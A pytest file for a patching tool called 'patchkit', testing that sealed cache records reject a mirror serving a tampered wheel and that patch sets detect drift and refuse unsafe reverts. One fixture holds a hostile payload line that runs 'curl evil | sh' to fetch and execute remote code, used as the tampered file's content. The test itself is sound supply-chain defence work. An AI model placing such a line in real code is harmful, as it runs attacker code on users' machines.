"""Review 9 (issue 20): a sealed record in patchkit's caches wins over whatever another source serves
under its name, and a bad download leaves the good cache as it was."""

from __future__ import annotations

import hashlib
import json
import re
import shlex

import pytest
from helpers import (
    MODEL_PY,
    STOCK_FILES,
    assert_clean_failure,
    fingerprint,
    install,
    make_patch,
    patched_spec,
    run_cli,
    stock_files_fetched,
    write_library,
    write_tree,
    write_wheel,
)
from packaging import tags

from patchkit import fetch
from patchkit._target.guard import find_problems
from patchkit.base.errors import BadInput, FetchError
from patchkit.wheel import stock

from index_server import FILES, VERSION, WHEEL, IndexServer, build_wheel, isolate_cache, use_index  # isort: skip

SPEC = "vllm/config/speculative.py"
HOSTILE = b"import os; os.system('curl evil | sh')\n"
STOCK_VERSION = "0.2.0"
HERE = next(iter(tags.sys_tags()))
NATIVE = f"vllm-{STOCK_VERSION}-{HERE.interpreter}-{HERE.abi}-{HERE.platform}.whl"
W_SPEC, W_MODEL, W_CLI = "vllm/config/spec.py", "vllm/models/model.py", "vllm/entrypoints/cli.py"
MODEL_FIXED = MODEL_PY.replace("SupportsPP):", "SupportsPP):  # fixed\n")
CLI_FIXED = STOCK_FILES[W_CLI].decode() + "# fixed\n"


@pytest.fixture
def two_indexes(tmp_path, monkeypatch):
    """The genuine index and a mirror serving another file under the genuine wheel's name."""
    isolate_cache(tmp_path, monkeypatch)
    genuine, mirror = IndexServer(), IndexServer()
    genuine.publish(WHEEL, build_wheel())
    mirror.publish(WHEEL, build_wheel({**FILES, SPEC: HOSTILE}))
    yield genuine, mirror
    genuine.stop()
    mirror.stop()


def _release_json(tmp_path) -> dict:
    return json.loads((tmp_path / "cache" / "releases" / VERSION / "release.json").read_text())


def test_fetch_through_a_mirror_serving_another_file_keeps_the_sealed_record(two_indexes, tmp_path, monkeypatch):
    genuine, mirror = two_indexes
    use_index(monkeypatch, genuine.index())
    assert run_cli("fetch", VERSION, "--all").returncode == 0
    sealed = _release_json(tmp_path)
    use_index(monkeypatch, mirror.index())

    done = run_cli("fetch", VERSION, "--all")

    assert_clean_failure(done, 2)
    said = " ".join(done.stderr.split())
    served = hashlib.sha256(mirror.files[WHEEL]).hexdigest()
    assert served[:16] in said and sealed["sha256"][:16] in said, said
    assert str(tmp_path / "cache" / "releases" / VERSION / "release.json") in said, said  # what to do
    assert _release_json(tmp_path) == sealed
    laid = run_cli("fetch", VERSION, "--all", "--dest", tmp_path / "dest")
    assert_clean_failure(laid, 2)
    assert not (tmp_path / "dest" / SPEC).exists()
    use_index(monkeypatch, genuine.index())  # pip pointed back: the cache serves as before
    laid = run_cli("fetch", VERSION, "--all", "--dest", tmp_path / "dest")
    assert laid.returncode == 0, laid.stderr
    assert (tmp_path / "dest" / SPEC).read_bytes() == FILES[SPEC]


def test_a_mirror_serving_the_same_file_is_taken_without_fetching_again(two_indexes, tmp_path, monkeypatch):
    genuine, _ = two_indexes
    mirror = IndexServer()
    try:
        mirror.publish(WHEEL, genuine.files[WHEEL])
        use_index(monkeypatch, genuine.index())
        fetch.release_tree(VERSION, [SPEC], recheck_index=True)
        use_index(monkeypatch, mirror.index())

        tree = fetch.release_tree(VERSION, [SPEC], recheck_index=True)

        assert (tree / SPEC).read_bytes() == FILES[SPEC]
        assert not [entry for entry in mirror.log if "/files/" in entry[1]]  # asked for its page only
        assert _release_json(tmp_path)["index"] == mirror.index()
    finally:
        mirror.stop()


# --------------------------------------------------------------------------- M2: the wheel cache


def _without_sha256(index: IndexServer) -> None:
    """The index's page lists its files with no sha256 (PEP 503 makes it optional)."""
    index.pages[("range", "vllm")] = re.sub(r"#sha256=[0-9a-f]+", "", index.pages[("range", "vllm")])


def _entry(cache_root, name: str) -> dict[str, bytes]:
    root = cache_root / "wheels" / STOCK_VERSION
    return {p.name: p.read_bytes() for p in sorted(root.iterdir()) if p.name.startswith(name)}


@pytest.mark.parametrize("serves", ["another file", "nothing"])
def test_a_bad_download_leaves_the_cached_wheel_and_its_record_as_they_were(tmp_path, monkeypatch, serves):
    cache_root = isolate_cache(tmp_path, monkeypatch)
    genuine, mirror = IndexServer(), IndexServer()
    try:
        genuine.publish(NATIVE, build_wheel(version=STOCK_VERSION, blob_size=3000))
        mirror.publish(NATIVE, build_wheel(version=STOCK_VERSION, blob_size=5000))
        _without_sha256(mirror)
        if serves == "nothing":
            mirror.files.clear()  # listed, but the download fails
        use_index(monkeypatch, genuine.index())
        stock.stock_wheel(STOCK_VERSION)
        stock.stock_wheel(STOCK_VERSION)  # sealed on reuse, when its ctime is old enough
        before = _entry(cache_root, NATIVE)
        use_index(monkeypatch, mirror.index())

        with pytest.raises((BadInput, FetchError)) as refused:
            stock.stock_wheel(STOCK_VERSION)

        if serves == "another file":
            said = f"{refused.value.message} {refused.value.hint}"
            assert hashlib.sha256(genuine.files[NATIVE]).hexdigest()[:16] in said, said
        assert _entry(cache_root, NATIVE) == before
        use_index(monkeypatch, genuine.index())
        genuine.stop()
        monkeypatch.setenv("PIP_NO_INDEX", "1")  # the good cache still serves, with no index to ask
        assert stock.stock_wheel(STOCK_VERSION).read_bytes() == genuine.files[NATIVE]
    finally:
        genuine.stop()
        mirror.stop()


# --------------------------------------------------------------------------- M3-M5: sets applied on a patched wheel


@pytest.fixture
def wheel_and_a_set(run, tmp_path):
    """A wheel of the sets spec and model-fix installed, and cli-fix (a file of its own) applied on
    it by `apply`: (site-packages, library)."""
    tree = write_tree(tmp_path / "stock", "0.16.0", dict(STOCK_FILES))
    library = tmp_path / "lib"
    write_library(library, {"0.16.0": [make_patch(tmp_path, tree, {W_SPEC: patched_spec()})]}, name="spec")
    write_library(library, {"0.16.0": [make_patch(tmp_path, tree, {W_MODEL: MODEL_FIXED})]}, name="model-fix")
    write_library(library, {"0.16.0": [make_patch(tmp_path, tree, {W_CLI: CLI_FIXED})]}, name="cli-fix")
    (library / "library.toml").write_text('order = ["spec", "model-fix", "cli-fix"]\n')
    sets = ("--set", "spec", "--set", "model-fix")
    built = run("wheel", write_wheel(tmp_path / "in"), "--out", tmp_path / "out", "--patches", library, *sets)
    assert built.exit_code == 0, built.output
    site = install(next((tmp_path / "out").iterdir()), tmp_path / "prefix")
    stock_files_fetched(STOCK_FILES)  # what revert puts back, as a fetch leaves them
    done = run("apply", "--target", site, "--patches", library, "--set", "cli-fix")
    assert done.exit_code == 0, done.output
    return site, library


def _sets(run, site, library) -> dict[str, dict]:
    status = run("status", "--target", site, "--patches", library, "--format", "json")
    return {s["set"]: s for s in json.loads(status.stdout)["sets"]}


def _printed_fixes(output: str) -> list[list[str]]:
    joined = " ".join(output.split())
    return [shlex.split(c)[1:] for c in re.findall(r"`(patchkit [^`]*)`", joined)]


@pytest.mark.parametrize("edit", ["keeps the patch", "undoes the patch"])
def test_a_wheel_set_s_edit_under_a_set_applied_on_it_is_that_set_s_drift(run, wheel_and_a_set, edit):
    site, library = wheel_and_a_set
    (site / W_MODEL).write_text((MODEL_FIXED if edit == "keeps the patch" else MODEL_PY) + "# edited\n")

    sets = _sets(run, site, library)

    assert {name: s["drifted"] for name, s in sets.items()} == {"spec": [], "model-fix": [W_MODEL], "cli-fix": []}
    applied = run("apply", "--target", site, "--patches", library)
    said = " ".join(applied.output.split())
    assert applied.exit_code != 0 and "model-fix: already applied" not in said, said
    assert f"files edited after patchkit patched them: {W_MODEL}" in said, said
    for one in ("spec", "model-fix", "cli-fix"):  # each set's status: the fix it prints runs, in order
        said = run("status", "--target", site, "--patches", library, "--set", one).output
        fixes = _printed_fixes(said)
        assert fixes and all("--set" not in fix for fix in fixes), said
    for fix in fixes:
        done = run(*fix)
        assert done.exit_code == 0, (fix, done.output)
    assert run("status", "--target", site, "--patches", library).exit_code == 0
    assert find_problems(str(site)) == []


def test_a_set_applied_on_a_wheel_is_not_blamed_for_the_wheel_s_edited_file(run, tmp_path, wheel_and_a_set):
    site, library = wheel_and_a_set
    assert run("revert", "--target", site, "--patches", library, "--set", "cli-fix").exit_code == 0
    (site / W_MODEL).write_text(MODEL_PY + "# edited\n")  # no set applied by `apply` now

    sets = _sets(run, site, library)

    assert {name: s["drifted"] for name, s in sets.items()} == {"spec": [], "model-fix": [W_MODEL], "cli-fix": []}


def test_revert_of_one_set_of_the_wheel_is_refused_with_another_set_applied_on_it(run, wheel_and_a_set):
    site, library = wheel_and_a_set
    before = fingerprint(site)

    done = run("revert", "--target", site, "--patches", library, "--set", "spec")

    assert done.exit_code == 2, done.output
    said = " ".join(done.output.split())
    assert "its sets are reverted together" in said, said
    assert "pip install --force-reinstall --no-deps vllm==0.16.0" in said, said  # the stock wheel
    assert "`patchkit wheel" in said and "0.16.0 --set model-fix`" in said, said  # the wheel without spec
    assert fingerprint(site) == before
    assert find_problems(str(site)) == []


def test_a_set_applied_over_a_wheel_set_s_file_is_no_drift_of_the_wheel_s_set(run, tmp_path, wheel_and_a_set):
    site, library = wheel_and_a_set
    patched = write_tree(tmp_path / "patched", "0.16.0", {**STOCK_FILES, W_SPEC: patched_spec().encode()})
    more = make_patch(tmp_path, patched, {W_SPEC: patched_spec() + "# more\n"})
    write_library(library, {"0.16.0": [more]}, name="spec-more")
    (library / "library.toml").write_text('order = ["spec", "model-fix", "cli-fix", "spec-more"]\n')
    done = run("apply", "--target", site, "--patches", library, "--set", "spec-more", "--force")
    assert done.exit_code == 0, done.output

    sets = _sets(run, site, library)

    assert {name: s["drifted"] for name, s in sets.items()}["spec"] == [], sets["spec"]


# --------------------------------------------------------------------------- the class of M1: the wheel cache's record


@pytest.mark.parametrize("gives_sha256", [True, False])
def test_a_release_fetch_holds_a_mirror_to_the_wheel_cache_s_record_of_the_name(tmp_path, monkeypatch, gives_sha256):
    cache_root = isolate_cache(tmp_path, monkeypatch)
    genuine, mirror = IndexServer(), IndexServer()
    try:
        genuine.publish(NATIVE, build_wheel(version=STOCK_VERSION, blob_size=3000))
        mirror.publish(NATIVE, build_wheel({**FILES, SPEC: HOSTILE}, version=STOCK_VERSION, blob_size=3000))
        if not gives_sha256:
            _without_sha256(mirror)
        use_index(monkeypatch, genuine.index())
        stock.stock_wheel(STOCK_VERSION)  # `patchkit wheel 0.2.0` downloaded the genuine file: recorded
        use_index(monkeypatch, mirror.index())

        done = run_cli("fetch", STOCK_VERSION, "--all", "--dest", tmp_path / "dest")

        assert_clean_failure(done, 2)
        said = " ".join(done.stderr.split())
        assert hashlib.sha256(genuine.files[NATIVE]).hexdigest()[:16] in said, said
        assert str(cache_root / "wheels" / STOCK_VERSION / f"{NATIVE}.json") in said, said  # what to remove
        assert not (tmp_path / "dest" / SPEC).exists()
        assert not (cache_root / "releases" / STOCK_VERSION / "release.json").exists()
    finally:
        genuine.stop()
        mirror.stop()


def test_an_unsealed_release_record_is_not_sealed_over_the_wheel_cache_s_record(tmp_path, monkeypatch):
    cache_root = isolate_cache(tmp_path, monkeypatch)
    genuine, mirror = IndexServer(), IndexServer()
    try:
        genuine.publish(NATIVE, build_wheel(version=STOCK_VERSION, blob_size=3000))
        mirror.publish(NATIVE, build_wheel({**FILES, SPEC: HOSTILE}, version=STOCK_VERSION, blob_size=3000))
        use_index(monkeypatch, genuine.index())
        stock.stock_wheel(STOCK_VERSION)  # the wheel cache records the genuine file
        use_index(monkeypatch, mirror.index())
        record = cache_root / "wheels" / STOCK_VERSION / f"{NATIVE}.json"
        kept = record.read_bytes()
        record.unlink()  # meanwhile, a release.json of the mirror's file (an older patchkit's: unsealed)
        fetch.release_tree(STOCK_VERSION, [SPEC])
        record.write_bytes(kept)
        state_file = cache_root / "releases" / STOCK_VERSION / "release.json"
        state = json.loads(state_file.read_text())
        del state["seal"]
        state_file.write_text(json.dumps(state))

        done = run_cli("fetch", STOCK_VERSION, "--all")

        assert_clean_failure(done, 2)
        assert "seal" not in json.loads(state_file.read_text())  # not vouched for
    finally:
        genuine.stop()
        mirror.stop()


def test_apply_of_a_set_with_nothing_to_write_says_the_guard_still_refuses_the_tree(run, wheel_and_a_set):
    site, library = wheel_and_a_set
    (site / W_MODEL).write_text(MODEL_FIXED + "# edited\n")  # the wheel's model-fix file

    for dry_run in ((), ("--dry-run",)):
        done = run("apply", "--target", site, "--patches", library, "--set", "cli-fix", *dry_run)

        said = " ".join(done.output.split())
        assert "nothing to do" not in said, said
        assert f"the launch guard still refuses this tree: {W_MODEL} was changed" in said, said
        fixes = _printed_fixes(said.partition("to fix it")[2])
        assert [fix[0] for fix in fixes] == ["revert", "apply"] and all("--set" not in fix for fix in fixes), said
